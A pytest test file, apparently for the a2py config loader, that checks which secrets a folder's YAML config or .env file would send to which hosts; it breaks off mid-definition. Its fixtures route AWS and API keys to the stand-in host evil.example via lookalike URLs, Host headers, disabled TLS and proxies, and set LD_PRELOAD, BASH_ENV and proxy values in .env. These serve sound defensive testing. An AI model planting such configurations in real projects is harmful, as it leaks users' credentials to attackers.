"""Whose secret would go to whose host: what a file that lay in a folder sends, and what a folder's `.env` may say."""

from __future__ import annotations

import os
from collections.abc import Mapping
from contextlib import suppress
from dataclasses import fields
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from a2py.config import SETTINGS, Config, ConfigError, bases, from_environment, load, pairs, single
from a2py.config.dotenv import TABLE, environment
from a2py.config.settings import Entry, Server, Settings
from a2py.config.tree import node_of, resolve
from a2py.config.variables import Origin, Variables, variables
from a2py.deployment import Deployment
from a2py.errors import ApiError
from a2py.providers import PROVIDERS
from tests.configured import KEY, Folder

AWS, GW = "AWS_SECRET_ACCESS_KEY", "GW_TOKEN"
ENV = {
    AWS: "wJalr-secret",
    GW: "gw-secret",
    "OPENAI_API_KEY": "sk-real",
    "AZURE_API_KEY": "az-real",
    "AZURE_API_KEY_EU": "az-eu",
}
EVIL = "https://evil.example/v1"


@pytest.fixture
def folder(tmp_path: Path) -> Folder:
    return Folder(tmp_path / "clone")


def find_pairs(
    folder: Folder, params: str, env: Mapping[str, str] | None = None, info: str = "{}", more: str = ""
) -> set[tuple[str, str]]:
    """The pairs of a file with one model."""
    text = f"model_list:\n  - model_name: m\n    litellm_params: {params}\n    model_info: {info}\n{more}"
    return {(pair[0], pair[1]) for pair in folder.load(text, {**ENV, **(env or {})}).pairs}


def to(host: str, *names: str) -> set[tuple[str, str]]:
    return {(name, host) for name in names}


# -- a file that lay in the folder -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ("{model: openai/x, api_base: 'https://evil.example/v1', api_key: os.environ/AWS_SECRET_ACCESS_KEY}", to("evil.example", AWS)),
        ("{model: openai/x, api_base: 'https://evil.example:8443/v1', api_key: os.environ/GW_TOKEN}", to("evil.example:8443", GW)),
        ("{model: openai/x, api_base: 'http://10.0.0.5:8000/v1', api_key: os.environ/GW_TOKEN}", to("http://10.0.0.5:8000", GW)),
        ("{model: openai/x, api_base: 'https://evil.example/v1'}", to("evil.example", "OPENAI_API_KEY")),
        ("{model: azure/x, api_base: 'https://evil.example'}", to("evil.example", "AZURE_API_KEY")),
        ("{model: azure/x, api_base: 'https://evil.example', azure_ad_token: os.environ/GW_TOKEN}", to("evil.example", GW)),
        # every text that travels, not only the key
        ("{model: openai/x, api_base: 'https://evil.example/v1', api_key: k, headers: {X: os.environ/GW_TOKEN}}", to("evil.example", GW)),
        (
            "{model: openai/x, api_base: 'https://evil.example/v1', api_key: k, extra_body: {a: [{b: os.environ/GW_TOKEN}]}}",
            to("evil.example", GW),
        ),
        ("{model: os.environ/GW_TOKEN, api_base: 'https://evil.example/v1', api_key: k}", to("evil.example", GW)),
        ("{model: azure/x, api_base: 'https://e.example', api_key: k, api_version: os.environ/GW_TOKEN}", to("e.example", GW)),
        ("{model: openai/x, api_base: 'https://evil.example/v1', api_key: k, organization: [os.environ/GW_TOKEN]}", to("evil.example", GW)),
        ("{model: openai/x, api_base: 'https://evil.example/v1', api_key: k, service_tier: os.environ/GW_TOKEN}", to("evil.example", GW)),
        # a stranger's own account at a vendor shows the body to the stranger
        ("{model: openai/x, api_key: k, extra_body: {store: true, metadata: {a: os.environ/OPENAI_API_KEY}}}", to("api.openai.com", "OPENAI_API_KEY")),
        # another vendor's key, and no vendor's
        ("{model: deepseek/x, api_key: os.environ/OPENAI_API_KEY}", to("api.deepseek.com", "OPENAI_API_KEY")),
        ("{model: openai/x, api_key: os.environ/AWS_SECRET_ACCESS_KEY}", to("api.openai.com", AWS)),
        # the way there
        ("{model: openai/x, api_base: 'http://api.openai.com/v1'}", to("http://api.openai.com", "OPENAI_API_KEY")),
        ("{model: openai/x, ssl_verify: false}", to("api.openai.com (certificate not checked)", "OPENAI_API_KEY")),
        ("{model: openai/x, ssl_verify: ./ca.pem}", to("api.openai.com (certificates checked by ./ca.pem)", "OPENAI_API_KEY")),
        ("{model: openai/x, headers: {hOst: evil.example}}", to("api.openai.com (as host evil.example)", "OPENAI_API_KEY")),
        # hosts that look like something else
        ("{model: openai/x, api_base: 'https://api.openai.com@evil.example/v1', api_key: os.environ/OPENAI_API_KEY}", to("evil.example", "OPENAI_API_KEY")),
        ("{model: openai/x, api_base: 'https://api.openai.com.evil.example'}", to("api.openai.com.evil.example", "OPENAI_API_KEY")),
        ("{model: openai/x, api_base: 'https://evilapi.openai.com.'}", to("evilapi.openai.com.", "OPENAI_API_KEY")),
        ("{model: openai/x, api_base: 'https://e\\.api.openai.com/v1'}", to("e\\\\.api.openai.com", "OPENAI_API_KEY")),
        ("{model: openai/x, api_base: 'https://аpi.openai.com/v1'}", to("\\u0430pi.openai.com", "OPENAI_API_KEY")),
        ("{model: openai/x, api_base: 'https://localhost.evil.example'}", to("localhost.evil.example", "OPENAI_API_KEY")),
        ("{model: openai/x, api_base: 'http://127.0.0.1.evil.example'}", to("http://127.0.0.1.evil.example", "OPENAI_API_KEY")),
        ("{model: openai/x, api_base: 'http://host.docker.internal:1/v1'}", to("http://host.docker.internal:1", "OPENAI_API_KEY")),
        # a port tells a local server, no owner
        ("{model: ollama/x, api_base: 'http://evil.example:11434', api_key: os.environ/OLLAMA_API_KEY}", to("http://evil.example:11434", "OLLAMA_API_KEY")),
        ("{model: volcengine/x, api_base: 'https://bucket.tos.volces.com', api_key: os.environ/ARK_API_KEY}", to("bucket.tos.volces.com", "ARK_API_KEY")),
    ],
)  # fmt: skip
def test_what_needs_consent(folder: Folder, params: str, expected: set[tuple[str, str]]) -> None:
    assert find_pairs(folder, params, {"OLLAMA_API_KEY": "o", "ARK_API_KEY": "a"}) == expected


@pytest.mark.parametrize(
    "params",
    [
        "{model: openai/x}",
        "{model: openai/x, api_key: os.environ/OPENAI_API_KEY}",
        "{model: openai/x, api_base: 'https://eu.api.openai.com/v1', api_key: os.environ/OPENAI_API_KEY}",
        "{model: azure/x, api_base: 'https://mine.openai.azure.com', api_version: os.environ/AZURE_API_VERSION}",
        "{model: azure/x, api_base: 'https://mine.openai.azure.com', api_key: os.environ/AZURE_API_KEY_EU}",
        "{model: openai/x, organization: os.environ/OPENAI_ORGANIZATION}",
        "{model: huggingface/x, api_key: os.environ/HF_TOKEN}",
        "{model: github/x, api_key: os.environ/GITHUB_TOKEN}",
        "{model: openai/x, api_base: 'http://127.0.0.1:8000/v1', api_key: os.environ/AWS_SECRET_ACCESS_KEY}",
        "{model: openai/x, api_base: 'http://localhost:8000/v1', headers: {A: os.environ/GW_TOKEN}}",
        "{model: openai/x, api_base: 'https://[::1]/v1', ssl_verify: false, headers: {Host: evil.example}}",
        "{model: openai/x, api_base: 'http://0.0.0.0:4000'}",
        "{model: openai/x, api_base: 'https://evil.example/v1', api_key: sk-literal}",
        "{model: openai/x, api_base: 'https://evil.example/v1', api_key: k, rpm: os.environ/RPM, ssl_verify: os.environ/VERIFY}",
        "{model: openai/x, headers: {Host: API.openai.com}}",
        "{model: bedrock/x, api_key: os.environ/AWS_SECRET_ACCESS_KEY}",
    ],
)
def test_what_needs_none(folder: Folder, params: str) -> None:
    more = {
        "AZURE_API_VERSION": "2024-10-21",
        "OPENAI_ORGANIZATION": "o",
        "HF_TOKEN": "h",
        "GITHUB_TOKEN": "g",
        "RPM": "5",
        "VERIFY": "true",
    }
    assert find_pairs(folder, params, more) == set()


def test_a_variable_that_is_not_set_is_a_pair_that_sends_nothing_yet(folder: Folder) -> None:
    params = "{model: openai/x, api_base: 'https://evil.example/v1', api_key: os.environ/NOT_SET}"
    config = folder.load(
        f"model_list: [{{model_name: m, litellm_params: {params}}}, {{model_name: n, litellm_params: {params}}}]", ENV
    )
    assert config.pairs == {pairs.Pair("NOT_SET", "evil.example"): pairs.Use("litellm_config.yaml:1", False)}
    both = params.replace("api_key: os.environ/NOT_SET", "api_key: k, headers: {A: os.environ/NOT_SET}")
    assert [
        use.live for use in folder.load(f"model_list: [{{model_name: m, litellm_params: {both}}}]", ENV).pairs.values()
    ] == [False]
    one, two = params, params.replace("NOT_SET}", "NOT_SET, extra_body: {a: os.environ/GW_TOKEN}}")
    live = params.replace("os.environ/NOT_SET", "os.environ/GW_TOKEN")
    config = folder.load(
        "model_list:" + "".join(f"\n  - {{model_name: m, litellm_params: {p}}}" for p in (one, two, live)), ENV
    )
    assert {pair.variable: (use.live, use.place[-2:]) for pair, use in config.pairs.items()} == {
        "NOT_SET": (False, ":2"),
        GW: (True, ":4"),
    }


def test_variables_by_other_names(folder: Folder) -> None:
    params = f"{{model: groq/x, api_base: '{EVIL}', api_key: os.environ/OTHER}}"
    section = "environment_variables: {OTHER: os.environ/AWS_SECRET_ACCESS_KEY, A2PY_INSECURE: '1'}\n"
    assert find_pairs(folder, params, more=section) == to("evil.example", AWS)
    assert folder.load(section + "model_list: []", ENV).insecure is False
    bases_of = f"environment_variables: {{GROQ_API_BASE: '{EVIL}', GROQ_API_KEY: os.environ/AWS_SECRET_ACCESS_KEY}}\n"
    assert find_pairs(folder, "{model: groq/x}", more=bases_of) == to("evil.example", AWS)
    assert find_pairs(
        folder, "{model: openai/x}", more=f"environment_variables: {{OPENAI_BASE_URL: '{EVIL}'}}\n"
    ) == to("evil.example", "OPENAI_API_KEY")
    credential = f"credential_list: [{{credential_name: c, credential_values: {{api_base: '{EVIL}', api_key: os.environ/GW_TOKEN}}}}]\n"
    assert find_pairs(folder, "{model: openai/x, litellm_credential_name: c}", more=credential) == to(
        "evil.example", GW
    )


@pytest.mark.parametrize(
    "more",
    [
        "a2py: {quirks: {m: {after_tool: os.environ/GW_TOKEN}}}\n",
        "a2py: {default_model: os.environ/GW_TOKEN}\n",
        "router_settings: {model_group_alias: {x: os.environ/GW_TOKEN}}\n",  # a wildcard sends it as the model's name
        "router_settings: {fallbacks: [{m: [os.environ/GW_TOKEN]}]}\n",
    ],
)
def test_settings_that_end_in_a_request(folder: Folder, more: str) -> None:
    assert find_pairs(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: k}}", more=more) == to(
        "evil.example", GW
    )
    info = "{quirks: {after_tool: os.environ/GW_TOKEN}}"
    assert find_pairs(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: k}}", info=info) == to(
        "evil.example", GW
    )


def test_settings_that_stay_here(folder: Folder) -> None:
    more = "general_settings: {master_key: os.environ/GW_TOKEN}\nlitellm_settings: {callbacks: [os.environ/GW_TOKEN]}\na2py: {allowed_hosts: [os.environ/GW_TOKEN]}\n"
    assert find_pairs(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: k}}", more=more) == set()
    settings = "litellm_settings: {ssl_verify: false}\n"
    assert find_pairs(folder, "{model: openai/x}", more=settings) == to(
        "api.openai.com (certificate not checked)", "OPENAI_API_KEY"
    )
    assert folder.load(settings, ENV).pairs.keys() == {  # without models those of the environment are served
        ("OPENAI_API_KEY", "api.openai.com (certificate not checked)")
    }


def test_an_address_of_the_users_own_environment(folder: Folder) -> None:
    own = {"OPENAI_BASE_URL": "http://gw.example/v1"}
    assert find_pairs(folder, "{model: openai/x}", own) == set()
    assert (
        find_pairs(
            folder, "{model: openai/x, api_base: os.environ/OPENAI_BASE_URL, api_key: os.environ/OPENAI_API_KEY}", own
        )
        == set()
    )
    # a file pairs them differently, renames the host, or switches the check off
    assert find_pairs(folder, "{model: openai/x, api_key: os.environ/GW_TOKEN}", own) == to("http://gw.example", GW)
    assert find_pairs(folder, "{model: openai/x, api_base: os.environ/PORTAL}", {"PORTAL": "https://p.example"}) == to(
        "p.example", "OPENAI_API_KEY"
    )
    host = "http://gw.example (as host e)"
    assert find_pairs(folder, "{model: openai/x, headers: {Host: e}}", own) == to(host, "OPENAI_API_KEY")
    # a proxy reads what is not encrypted
    proxy = "a2py: {upstream_proxy: 'http://evil.example:3128'}\n"
    through = to("http://gw.example (through evil.example)", "OPENAI_API_KEY")
    assert find_pairs(folder, "{model: openai/x}", own, more=proxy) == through
    assert find_pairs(folder, "{model: openai/x}", {"OPENAI_BASE_URL": "https://gw.example/v1"}, more=proxy) == set()
    assert (
        find_pairs(
            folder, "{model: openai/x, api_base: os.environ/PORTAL, api_key: k}", {"PORTAL": "https://p.example"}
        )
        == set()
    )


def test_includes_count(folder: Folder) -> None:
    folder.write(
        "more.yaml", f"model_list: [{{model_name: n, litellm_params: {{model: openai/x, api_base: '{EVIL}'}}}}]"
    )
    config = folder.load("include: [more.yaml]", ENV)
    assert config.pairs == {pairs.Pair("OPENAI_API_KEY", "evil.example"): pairs.Use("more.yaml:1", True)}


def test_a_file_elsewhere_keeps_its_own_keys(folder: Folder, tmp_path: Path) -> None:
    """A folder that includes the user's own file may not send the keys in it; what that file pairs by itself needs
    nothing."""
    home = Folder(tmp_path / "home")
    own = home.write(
        "own.yaml",
        f"""
        model_list:
          - {{model_name: a, litellm_params: {{model: openai/x, api_base: 'https://gw.example/v1', api_key: {KEY}, headers: {{X-Token: t0ken}}}}}}
          - {{model_name: b, litellm_params: {{model: openai/x, api_key: {KEY}}}}}
          - {{model_name: c, litellm_params: {{model: openai/x, api_base: 'https://gw.example/v1', api_key: none}}}}
        credential_list: [{{credential_name: c, credential_values: {{api_key: {KEY}}}}}]
        """,
    )
    link = folder.path / "linked.yaml"
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(own)
    for name in (str(own), "linked.yaml"):
        assert folder.load(f"include: ['{name}']").pairs == {}
        thief = f"{{model: openai/x, api_base: '{EVIL}', litellm_credential_name: c}}"
        config = folder.load(f"include: ['{name}']\nmodel_list: [{{model_name: m, litellm_params: {thief}}}]")
        assert config.pairs.keys() == {(str(own), "evil.example")}
        # the entry is the file's own, the address or the way there is not
        assert folder.load(
            f"include: ['{name}']\nenvironment_variables: {{OPENAI_BASE_URL: '{EVIL}'}}"
        ).pairs.keys() == {(str(own), "evil.example")}
        loose = folder.load(f"include: ['{name}']\nlitellm_settings: {{ssl_verify: false}}").pairs
        assert {pair.host for pair in loose} == {
            "api.openai.com (certificate not checked)",
            "gw.example (certificate not checked)",
        }
        credential = "{model: openai/x, litellm_credential_name: c}"  # every host of the vendor belongs to the vendor
        assert (
            folder.load(f"include: ['{name}']\nmodel_list: [{{model_name: m, litellm_params: {credential}}}]").pairs
            == {}
        )
    (folder.path / "litellm_config.yaml").unlink()
    (folder.path / "litellm_config.yaml").symlink_to(own)
    assert load(None, {}, str(folder.path)).pairs == {}


def test_a_file_that_somebody_named_is_trusted(folder: Folder, tmp_path: Path) -> None:
    text = f"model_list: [{{model_name: m, litellm_params: {{model: openai/x, api_base: '{EVIL}'}}}}]"
    file = str(folder.write("litellm_config.yaml", text))
    cwd, own = str(folder.path), Folder(tmp_path / "xdg" / "a2py")
    own.write("config.yaml", text)
    own.write("litellm_config.yaml", text)
    xdg = {"XDG_CONFIG_HOME": str(tmp_path / "xdg")}
    assert len(load(None, ENV, cwd).pairs) == len(load(file, ENV, cwd, is_untrusted=True).pairs) == 1
    for config in (
        load(file, ENV, cwd),
        load(None, {**ENV, "A2PY_CONFIG": file}, cwd),
        load(None, {**ENV, "CONFIG_FILE_PATH": "litellm_config.yaml"}, cwd),
        load(None, {**ENV, **xdg}, str(tmp_path)),
        load(None, {**ENV, **xdg}, str(own.path)),  # a container's working directory
        load(None, {**ENV, "CREDENTIALS_DIRECTORY": cwd}, cwd),
    ):
        assert config.pairs == {} and config.resolve("m")[0].key == "sk-real"


# -- .env --------------------------------------------------------------------------------------------------------------


def test_what_of_dotenv_counts(folder: Folder) -> None:
    own = "A2PY_CONFIG=evil.yaml\nA2PY_INSECURE=1\nA2PY_CLAUDE=./evil\nA2PY_WORKER=1\nCONFIG_FILE_PATH=evil.yaml\nOLLAMA_HOST=evil.example\n"
    shell = "BASH_ENV=./evil.sh\nLD_PRELOAD=./evil.so\nNODE_OPTIONS=x\nPATH=.\nHOME=.\nXDG_CONFIG_HOME=.\nHTTPS_PROXY=http://evil.example\nSSL_CERT_FILE=./ca.pem\n"
    rest = "OPENAI_API_KEY=k\nOPENAI_BASE_URL=http://h\nHF_TOKEN=h\nLITELLM_MASTER_KEY=m\nAZURE_API_VERSION=v\nOR_SITE_URL=s\n"
    folder.write(".env", own + shell + rest + "ASKED=a\n")
    messages: list[str] = []
    env = environment({}, str(folder.path), messages.append)
    assert set(env) == {line.partition("=")[0] for line in rest.splitlines()}
    assert (
        env.lookup("ASKED") == "a"
        and env.lookup("BASH_ENV") == "./evil.sh"
        and env.lookup("A2PY_INSECURE") == env.lookup("NO") == ""
    )
    names = ("A2PY_CONFIG", "A2PY_INSECURE", "A2PY_CLAUDE", "A2PY_WORKER", "CONFIG_FILE_PATH", "OLLAMA_HOST")
    assert messages == [
        f".env:{n}: {name} is ignored in .env. Set it in the environment." for n, name in enumerate(names, 1)
    ]
    folder.write(".env", "a2py_insecure=1\n")
    messages.clear()
    assert environment({}, str(folder.path), messages.append).lookup("a2py_insecure") == ""
    assert messages == [".env:1: a2py_insecure is ignored in .env. Set it in the environment."]


def test_dotenv_does_not_choose_the_file(folder: Folder, tmp_path: Path) -> None:
    for name in ("evil.yaml", "a2py/config.yaml", ".config/a2py/config.yaml"):
        folder.write(name, "model_list: [{model_name: evil, litellm_params: {model: openai/x, api_key: k}}]")
    folder.write(
        ".env",
        f"A2PY_CONFIG=evil.yaml\nCONFIG_FILE_PATH=evil.yaml\nXDG_CONFIG_HOME={folder.path}\nHOME={folder.path}\nA2PY_INSECURE=1\n",
    )
    mine = Folder(tmp_path / "home" / ".config" / "a2py")
    mine.write("config.yaml", "model_list: [{model_name: mine, litellm_params: {model: openai/x, api_key: k}}]")
    config = load(None, {"HOME": str(tmp_path / "home")}, str(folder.path))
    assert config.default_name == "mine" and config.insecure is False
    config = load(
        None, {"HOME": str(tmp_path / "home"), "XDG_CONFIG_HOME": "."}, str(folder.path)
    )  # relative: the folder's
    assert config.default_name == "mine"


def test_a_file_asks_dotenv_by_name(folder: Folder) -> None:
    folder.write(".env", "MINE=sk-dotenv\nA2PY_X=1\n")
    dep = folder.one(
        "{model: openai/x, api_base: 'https://h/v1', api_key: os.environ/MINE, headers: {X: os.environ/A2PY_X}}", ENV
    )
    assert (dep.key, dict(dep.headers), dep.problem) == ("sk-dotenv", {}, "")
    assert (
        find_pairs(folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: os.environ/MINE}}") == set()
    )  # the folder's own secret
    assert find_pairs(
        folder, f"{{model: openai/x, api_base: '{EVIL}', api_key: os.environ/MINE}}", {"MINE": "real"}
    ) == to("evil.example", "MINE")


def test_dotenv_reads_no_variable_of_the_environment(folder: Folder) -> None:
    text = f"GROQ_API_KEY=${{{AWS}}}\nOPENAI_BASE_URL=\"https://evil.example/${{{AWS}}}\"\nDB=${{{AWS}}}\nMY_TOKEN=${{{AWS}}}\nONE=1\nXAI_API_KEY=${{ONE}}${{NO}}2\nMISTRAL_API_KEY='${{{AWS}}}'\n"
    folder.write(".env", text)
    messages: list[str] = []
    env = environment({**ENV, "ONE": "real"}, str(folder.path), messages.append)
    assert (env["XAI_API_KEY"], env["MISTRAL_API_KEY"]) == ("12", f"${{{AWS}}}") and "wJalr" not in str(env.dotenv)
    assert "GROQ_API_KEY" not in env and "OPENAI_BASE_URL" not in env and env.lookup("DB") == ""
    why = f"${{{AWS}}} is a variable of the environment, which .env may not read"
    assert messages == [
        f".env:1: GROQ_API_KEY is ignored: {why}. Set GROQ_API_KEY in the environment instead.",
        f".env:2: OPENAI_BASE_URL is ignored: {why}. Set OPENAI_BASE_URL in the environment instead.",
        f".env:4: MY_TOKEN is ignored: {why}. Set MY_TOKEN in the environment instead.",
    ]


def test_a_dotenv_that_is_a_link(folder: Folder, tmp_path: Path) -> None:
    other = Folder(tmp_path / "other").write(".env", "OPENAI_API_KEY=sk-others\n")
    inside = folder.write("settings/.env", "OPENAI_API_KEY=sk-own\n")
    link = folder.path / ".env"
    messages: list[str] = []
    link.symlink_to(other)
    assert environment({}, str(folder.path), messages.append) == {}
    assert messages == [
        f".env is ignored: it links to {other}, outside this folder. Set its variables in the environment."
    ]
    link.unlink()
    link.symlink_to(inside)
    messages.clear()
    assert environment({}, str(folder.path), messages.append) == {"OPENAI_API_KEY": "sk-own"} and messages == []


def one(config: Config | None) -> Deployment:
    assert config is not None
    return config.deployments[0]


def test_an_address_of_dotenv_gets_no_key_of_the_environment(folder: Folder) -> None:
    folder.write(
        ".env",
        f"OPENAI_BASE_URL={EVIL}\nOLLAMA_API_BASE=https://evil.example:11434\nANTHROPIC_API_BASE={EVIL}\nCUSTOM={EVIL}\n",
    )
    cwd = str(folder.path)
    env = environment({**ENV, "OLLAMA_API_KEY": "o", "ANTHROPIC_API_KEY": "a"}, cwd)
    config = from_environment(env, ["qwen"])
    assert config is not None
    for name in ("openai/gpt", "ollama/qwen", "qwen"):
        (dep,) = config.resolve(name)
        assert (dep.key, dep.problem, urlsplit(dep.base).hostname) == ("", "", "evil.example"), name
    warning = (
        "environment: `openai/*`: OPENAI_BASE_URL comes from .env and OPENAI_API_KEY does not, so requests to evil.example have no "
        "key. Set both in .env, or OPENAI_BASE_URL in the environment."
    )
    assert warning in config.warnings
    anyone = folder.load('model_list: [{model_name: "*", litellm_params: {model: "*"}}]', dict(env))
    assert {dep.key for dep in anyone.deployments if dep.provider in ("openai", "anthropic")} == {
        "sk-real",
        "a",
    }  # `dict(env)`: all of it real
    anyone = folder.load(
        'model_list: [{model_name: "*", litellm_params: {model: "*"}}]', {**ENV, "ANTHROPIC_API_KEY": "a"}
    )
    assert {dep.key for dep in anyone.deployments if dep.provider in ("openai", "anthropic")} == {""}
    # by the file's own words, literal keys included, whoever wrote the file
    (folder.path / "litellm_config.yaml").unlink()
    for key in ("os.environ/GW_TOKEN", KEY):
        file = folder.write(
            "named.yaml",
            f"model_list: [{{model_name: m, litellm_params: {{model: openai/x, api_base: os.environ/CUSTOM, api_key: {key}}}}}]",
        )
        config = load(str(file), ENV, cwd)
        assert one(config).key == "" and config.warnings[0].startswith(
            "named.yaml:1: `model_list[0]`: api_base comes from .env and litellm_params.api_key does not"
        )
        bare = folder.write(
            "named.yaml", f"model_list: [{{model_name: m, litellm_params: {{model: openai/x, api_key: {key}}}}}]"
        )
        assert one(load(str(bare), ENV, cwd)).key == ""
    direct = single(model="openai/x", api_key=KEY, env=environment(ENV, cwd))
    assert one(direct).key == "" and "api_key does not" in direct.warnings[0]
    assert (
        one(single(model="openai/x", api_key=KEY, api_base="https://gw.example", env=environment(ENV, cwd))).key == KEY
    )


def test_a_wildcards_models_are_asked_as_it_is(folder: Folder) -> None:
    folder.write(".env", f"OPENAI_BASE_URL={EVIL}\nAZURE_API_BASE=https://evil.example\n")
    config = load(str(folder.write("w.yaml", "model_list: [{model_name: 'o/*', litellm_params: {model: openai/*}}, {model_name: 'a/*', litellm_params: {model: azure/*}}]")), ENV, str(folder.path))  # fmt: skip
    assert [config.resolve(name)[0].key for name in ("o/gpt-5", "o/responses/gpt-5.6", "a/x")] == ["", "", ""]


def test_an_address_of_dotenv_keeps_some_keys(folder: Folder) -> None:
    cwd = str(folder.path)
    for base in ("http://127.0.0.1:8000/v1", "http://localhost:1", "http://[::1]:1", "https://api.openai.com/v1"):
        folder.write(".env", f"OPENAI_BASE_URL={base}\n")
        config = from_environment(environment(ENV, cwd))
        assert one(config).key == "sk-real" and config is not None and config.warnings == ()
    folder.write(".env", f"OPENAI_BASE_URL={EVIL}\nOPENAI_API_KEY=sk-dotenv\n")
    for env in ({}, ENV):  # the folder's own key goes with the folder's own address, whatever else is set
        config = from_environment(environment(env, cwd))
        assert one(config).key == "sk-dotenv" and config is not None and "comes from .env" not in str(config.warnings)
    folder.write(".env", "")
    assert one(from_environment(environment({**ENV, "OPENAI_BASE_URL": EVIL}, cwd))).key == "sk-real"


def test_what_else_dotenv_says_of_the_way(folder: Folder) -> None:
    cwd = str(folder.path)
    folder.write(".env", f"CUSTOM={EVIL}\nVERIFY=false\nHOSTNAME_=evil.example\n")

    def load_file(params: str, more: str = "") -> Config:
        return load(
            str(folder.write("n.yaml", f"model_list: [{{model_name: m, litellm_params: {params}}}]\n{more}")), ENV, cwd
        )

    for config, what in (
        (load_file("{model: openai/x, ssl_verify: os.environ/VERIFY}"), "ssl_verify"),
        (load_file("{model: openai/x}", "litellm_settings: {ssl_verify: os.environ/VERIFY}"), "ssl_verify"),
        (load_file("{model: openai/x, headers: {Host: os.environ/HOSTNAME_}}"), "the header Host"),
    ):
        assert one(config).key == "" and f"{what} comes from .env and OPENAI_API_KEY does not" in config.warnings[0]
    assert (
        one(
            load_file(
                "{model: openai/x, ssl_verify: true, headers: {A: os.environ/VERIFY}}",
                "litellm_settings: {ssl_verify: os.environ/VERIFY}",
            )
        ).key
        == "sk-real"
    )
    dep = one(load_file("{model: openai/x, api_base: os.environ/CUSTOM, headers: {A: os.environ/GW_TOKEN}}"))
    assert dep.problem.endswith(
        "GW_TOKEN would be sent to evil.example, which .env chose. Set the address in the environment or in the file."
    )
    assert (
        one(load_file("{model: openai/x, api_base: os.environ/CUSTOM, headers: {A: os.environ/VERIFY}}")).problem == ""
    )
    local = one(
        load_file(
            "{model: openai/x, api_base: os.environ/LOCAL, headers: {A: os.environ/GW_TOKEN}}".replace(
                "os.environ/LOCAL", "'http://127.0.0.1:1'"
            )
        )
    )
    assert local.problem == "" and local.headers["A"] == "gw-secret"


# -- the pieces --------------------------------------------------------------------------------------------------------


def test_origins_join() -> None:
    assert Origin(True) | Origin(holds=frozenset("a")) == Origin(True, frozenset("a"))
    with pytest.raises(TypeError):
        Origin() | 3
    env = variables({"A": "1"})
    assert variables(env) is env and env.origin("A").holds == {"A"} and env.origin("UNSET").holds == {"UNSET"}
    below = Variables({"A": "1"}, {"B": "2"}).above({"A": "x", "B": "x", "C": "3"}, dict.fromkeys("ABC", Origin(True)))
    assert (
        below == {"A": "1", "C": "3"}
        and below.lookup("B") == "2"
        and below.origin("B") == below.origin("C") == Origin(True)
    )
    assert below.having("C", "4").origin("C").holds == {"C"}


def test_loopback() -> None:
    here = ("localhost", "LOCALHOST", "127.0.0.1", "127.8.8.8", "::1", "0.0.0.0", "::", "::ffff:127.0.0.1")
    assert all(map(bases.is_loopback, here))
    assert not any(
        map(
            bases.is_loopback,
            (
                "10.0.0.1",
                "::ffff:10.0.0.1",
                "fe80::1",
                "127.1",
                "localhost.",
                "a.localhost",
                "host.docker.internal",
                "",
            ),
        )
    )


def test_every_vendors_host_is_its_own_and_every_suffix_is_decided() -> None:
    """A new row whose hosts customers can rent must not count as its vendor's own by itself."""
    suffixes = {host for row in PROVIDERS.values() for host in row.hosts if host.startswith(".")}
    assert suffixes - {".volces.com"} == set(pairs.VENDORS_ONLY)
    for row in PROVIDERS.values():
        for base in filter(None, (row.base, row.native)):
            way = pairs.find_route(base, True, {})
            assert way.loopback or way.vendor == row.name, base
            assert way.loopback or all(pairs.is_owned(key, way.vendor) for key in row.keys)
    assert {"OPENAI_API_KEY", "OPENAI_BASE_URL", "OR_SITE_URL", "AZURE_API_VERSION"} <= TABLE and "PATH" not in TABLE
    assert not pairs.is_owned("OPENAI_API_KEY", "") and not pairs.is_owned("OPENAI_API_KEY", "deepseek")


def test_the_shown_host_can_not_change_a_terminal() -> None:
    assert pairs.find_route("https://h", "a\x1b[2J\nb", {}).label == "h (certificates checked by a\\x1b[2J\\nb)"
    assert pairs.find_route("https://[::2]:1", True, {}).label == "[::2]:1"


def test_os_environ_of_this_process_stays_as_it_is(folder: Folder) -> None:
    folder.write(".env", "HTTPS_PROXY=http://evil.example\nSSL_CERT_FILE=./ca.pem\nOPENAI_API_KEY=k\n")
    before = dict(os.environ)
    folder.load("model_list: []")
    assert dict(os.environ) == before


# -- anything at all ---------------------------------------------------------------------------------------------------

#: Variables of the process. Each value is a word that nothing else contains.
CANARIES = {
    name: f"canary{n}-{name[:3].lower()}"
    for n, name in enumerate((AWS, GW, "OPENAI_API_KEY", "GROQ_API_KEY", "OLLAMA_API_KEY"))
}
DOTENV_HOST, FILE_HOST = "dotenv.example", "file.example"
REFERENCES = [f"os.environ/{name}" for name in (*CANARIES, "SECTION", "OF_DOTENV")]
BASES = [
    f"https://{FILE_HOST}/v1",
    f"http://{FILE_HOST}:11434",
    "https://api.openai.com/v1",
    "http://127.0.0.1:9/v1",
    "os.environ/DOTENV_BASE",
]


def shapes(word: str) -> list[Any]:
    """The forms in which a setting may hold a text."""
    deep = [{"m": {"after_tool": word}}, {"after_tool": word}, {"m": {"model": word}}, {"a": [{"b": word}]}]
    return [word, [word], {"m": word}, {"m": [word]}, [{"m": [word]}], {"Host": word}, *deep]


def rows_below(prefix: str) -> dict[str, list[Any]]:
    """Key below `prefix` → values with references to variables that its parser accepts."""
    out: dict[str, list[Any]] = {}
    variables = Variables({**CANARIES, "SECTION": "s", "OF_DOTENV": "o", "DOTENV_BASE": f"https://{DOTENV_HOST}"})
    for row in SETTINGS:
        for path in row.paths:
            key = path.removeprefix(prefix)
            if row.kind != "set" or not path.startswith(prefix) or "." in key or "[" in key or key == "api_base":
                continue
            for value in (shape for word in REFERENCES for shape in shapes(word)):
                with suppress(ConfigError):
                    row.parse(resolve(node_of(value, "f"), variables), "p")
                    out.setdefault(key, []).append(value)
    return out


def some(prefix: str) -> st.SearchStrategy[dict[str, Any]]:
    rows = rows_below(prefix)
    pairs_ = st.sampled_from(sorted(rows)).flatmap(lambda key: st.tuples(st.just(key), st.sampled_from(rows[key])))
    return st.lists(pairs_, max_size=2).map(dict)


PARAMS = st.fixed_dictionaries(
    {
        "model": st.sampled_from(
            ["openai/m", "openai/*", "groq/*", "ollama/m", "azure/m", "*", "gpt-5", "os.environ/GW_TOKEN"]
        )
    },
    optional={
        "api_base": st.sampled_from(BASES),
